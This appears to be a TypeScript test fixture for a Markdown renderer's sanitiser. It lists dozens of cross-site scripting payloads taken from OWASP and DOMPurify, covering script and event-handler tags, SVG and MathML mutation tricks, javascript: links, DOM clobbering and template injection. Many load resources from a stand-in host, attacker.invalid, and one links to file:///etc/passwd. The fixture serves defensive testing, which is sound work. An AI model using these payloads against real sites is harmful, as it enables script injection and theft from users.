/** Calls that a page defines, so that a text that runs is noticed. */
export const CANARY = "stolen";

const CALL = `${CANARY}(document.domain)`;
const AWAY = "https://attacker.invalid";

/**
 * Texts that would run a script, load something or change the page, if any place took them for more than a text: of
 * OWASP's list of filter evasions, of DOMPurify's tests, and for what this page is made of.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // elements that run something
  `<script>${CALL}</script>`,
  `<script src=${AWAY}/a.js></script>`,
  `<SCRIPT SRC="data:text/javascript,${CALL}"></SCRIPT>`,
  `"><script>${CALL}</script>`,
  `'"--></style></script></title></textarea><script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}"//`,
  `<IMG """><SCRIPT>${CALL}</SCRIPT>"\\>`,
  `<img/src="x"/onerror=${CALL}>`,
  `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
  `<img src=${AWAY}/a.png srcset="${AWAY}/b.png 2x">`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><script href="data:text/javascript,${CALL}" /></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values="javascript:${CALL}" /><a id=x><text>x</text></a></svg>`,
  `<svg><use href="${AWAY}/a.svg#x" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<a href="x"><xmp><a title="</xmp><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template><select><template shadowrootmode=open><img src=x onerror=${CALL}>`,
  `<body onload=${CALL}><details open ontoggle=${CALL}><input autofocus onfocus=${CALL}>`,
  `<video><source onerror="${CALL}"></video><audio src=${AWAY}/a.mp3 autoplay>`,
  `<marquee onstart=${CALL}>x</marquee><xss id=x tabindex=1 onfocus=${CALL}></xss>`,
  `<iframe src="javascript:parent.${CALL}"></iframe><iframe srcdoc="<img src=x onerror=parent.${CALL}>">`,
  `<object data="data:text/html,<script>${CALL}</script>"></object><embed src="${AWAY}/a.swf">`,
  `<link rel=stylesheet href=${AWAY}/a.css><link rel=prefetch href=${AWAY}/a>`,
  `<style>@import "${AWAY}/a.css"; body { background: url(${AWAY}/b.png) }</style>`,
  `<div style="background: url(${AWAY}/a.png); position: fixed; inset: 0; z-index: 9999">x</div>`,
  `<meta http-equiv=refresh content="0; url=${AWAY}"><base href="${AWAY}/">`,
  `<form action="${AWAY}" id=app><button formaction="javascript:${CALL}">x</button><input name=attributes></form>`,
  `<a href="javascript:${CALL}" ping="${AWAY}">x</a><area href="javascript:${CALL}"><dialog open>x</dialog>`,
  // names that a script of the page might look up
  `<img name=body><img name=getElementById><form id=location><a id=document name=defaultView href="${AWAY}">x</a>`,
  `<a id=composer></a><div id=main></div><meta name=reprise-base content="${AWAY}/">`,
  // Markdown
  `[x](javascript:${CALL})`,
  `[x](JaVaScRiPt&colon;${CALL})`,
  `[x](&#106;avascript:${CALL})`,
  `[x](java\tscript:${CALL})`,
  `[x](<java\u0000script:${CALL}>)`,
  `[x](\u0001javascript:${CALL})`,
  `[x](vbscript:x) [x](data:text/html,<script>${CALL}</script>) [x](file:///etc/passwd) [x](blob:${AWAY}/x)`,
  `[x](https://a.invalid/"onmouseover="${CALL})`,
  `[x](https://a.invalid "title\\" onmouseover=\\"${CALL}")`,
  `![" onerror="${CALL}](${AWAY}/a.png "x' onload='${CALL}")`,
  `![x](${AWAY}/a.png)`,
  `![x][r] [x][r] [r]\n\n[r]: javascript:${CALL}`,
  `<javascript:${CALL}> <https://a.invalid/"onclick="${CALL}"> <a@b.invalid?subject=x>`,
  `\`\`\`"><img src=x onerror=${CALL}>\n</code></pre><script>${CALL}</script>\n\`\`\``,
  ...["constructor", "__proto__", "toString", "hasOwnProperty", "html", "svg"].map(
    (language) => `\`\`\`${language}\n</code></pre><img src=x onerror=${CALL}>\n\`\`\``,
  ),
  `| <img src=x onerror=${CALL}> |\n|---|\n| [x](javascript:${CALL}) \`</code><img src=x onerror=${CALL}>\` |`,
  `- [ ] <img src=x onerror=${CALL}>\n- [x] <input onfocus=${CALL} autofocus>`,
  `<!-- --!> <img src=x onerror=${CALL}> -->\n<![CDATA[ <img src=x onerror=${CALL}> ]]>\n<?x <img src=x onerror=${CALL}> ?>`,
  `<div\n\n<img src=x onerror=${CALL}>\n\n</div>`,
  `\\<img src=x onerror=${CALL}\\>&lt;img src=x onerror=${CALL}&gt;&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  // templates and expressions of other libraries
  `{{constructor.constructor("${CALL}")()}} \${${CALL}} <%= ${CALL} %>`,
  `\u202e<img src=x onerror=${CALL}>\u2066\u0000\ufffe\ud800`,
  "__proto__",
  "constructor",
];

/** Whatever Markdown has, as models write it. */
export const ORDINARY_TEXT = `# A heading

A *paragraph* with **strong**, ~~deleted~~ and \`code\`, a [link](https://example.invalid/a?b=c#d "its title"),
an address <someone@example.invalid>, https://example.invalid and a line
that breaks. An image: ![a picture](https://example.invalid/a.png)

> A quote
> > in a quote

1. one
2. two
   - [ ] open
   - [x] done

| left | right |
|:-----|------:|
| 1    | \`a|b\` |

---

${["ts", "python", "html", "css", "json", "bash", "diff", "sql", "unknown"].map((name) => `\`\`\`${name}\nconst a = "<b style='color: red'>"; # x\n\`\`\``).join("\n\n")}

    indented code

Raw <b style="color: red">HTML</b> and <br> in it, &copy; and a footnote[^1].
`;
